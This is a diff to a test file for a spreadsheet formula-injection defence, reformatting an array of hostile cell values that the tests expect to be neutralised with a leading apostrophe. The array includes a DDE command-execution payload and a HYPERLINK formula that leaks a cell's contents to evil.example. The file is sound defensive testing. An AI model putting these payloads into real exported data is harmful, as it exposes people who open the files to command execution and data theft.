@@ -2,7 +2,18 @@
 import { describe, expect, it } from 'vitest';
 import { listFormat, neutraliseCell, restoreCell } from './cells.js';
 
-const hostile = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|x', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '-', '=', '@'];
+const hostile = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+  '+1+cmd|x',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  '-',
+  '=',
+  '@',
+];
 
 describe('a cell a spreadsheet would run as a formula', () => {
   it('is written with an apostrophe in front, which spreadsheets show as text', () => {
